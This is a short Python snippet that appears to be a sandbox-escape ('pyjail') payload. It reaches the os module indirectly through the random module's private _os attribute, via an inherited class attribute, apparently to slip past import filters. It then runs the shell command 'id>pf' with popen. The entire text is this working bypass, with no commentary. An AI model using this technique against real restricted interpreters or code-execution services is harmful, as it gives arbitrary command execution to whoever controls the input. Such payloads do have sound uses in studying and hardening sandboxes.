class Base:
    import random as r
class Child(Base):
    def go(self):
        return self.r._os.popen("id>pf").read()
Child().go()
